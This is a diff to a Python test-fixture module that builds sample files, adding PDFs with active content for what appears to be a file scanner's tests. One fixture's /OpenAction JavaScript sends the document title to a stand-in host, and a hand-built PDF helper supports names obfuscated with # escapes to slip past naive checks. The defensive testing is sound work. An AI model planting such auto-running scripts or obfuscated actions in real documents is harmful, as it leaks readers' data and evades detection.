@@ -6,6 +6,7 @@ import zlib
 
 from PIL import Image
 from pypdf import PdfWriter
+from pypdf.generic import DictionaryObject, NameObject, TextStringObject
 
 
 def pdf(pages: int = 1) -> bytes:
@@ -136,3 +137,49 @@ def odt_with_basic_macro() -> bytes:
 
 def plain_zip() -> bytes:
     return _zip({"notes.txt": b"bonjour"})
+
+
+# --- PDF with active content -------------------------------------------------------------------
+
+def pdf_with(build) -> bytes:
+    """A one-page PDF from pypdf's writer, after `build(writer)` added something to it."""
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    build(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def pdf_opening_with_javascript() -> bytes:
+    """A one-page PDF whose /OpenAction runs a script (sends the title to another site)."""
+    def build(writer):
+        writer.root_object[NameObject("/OpenAction")] = DictionaryObject({
+            NameObject("/S"): NameObject("/JavaScript"),
+            NameObject("/JS"): TextStringObject("app.launchURL('https://exemple.invalid/?' + this.info.Title);"),
+        })
+    return pdf_with(build)
+
+
+def raw_pdf(*objects: bytes) -> bytes:
+    """A PDF written by hand, object n being `objects[n - 1]` and object 1 the catalog, its
+    cross-reference offsets computed: for what pypdf's writer would never write, such as a
+    name spelled with # escapes (`/J#61vaScript` is `/JavaScript`)."""
+    out = bytearray(b"%PDF-1.7\n")
+    offsets = []
+    for number, body in enumerate(objects, 1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    start = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
+    return bytes(out)
+
+
+def raw_pdf_opening_with(action: bytes, *more: bytes) -> bytes:
+    """A hand-written one-page PDF whose catalog's /OpenAction is `action` (object 4), and
+    `more` objects (5, 6…) that it may refer to."""
+    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+                   b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", action, *more)
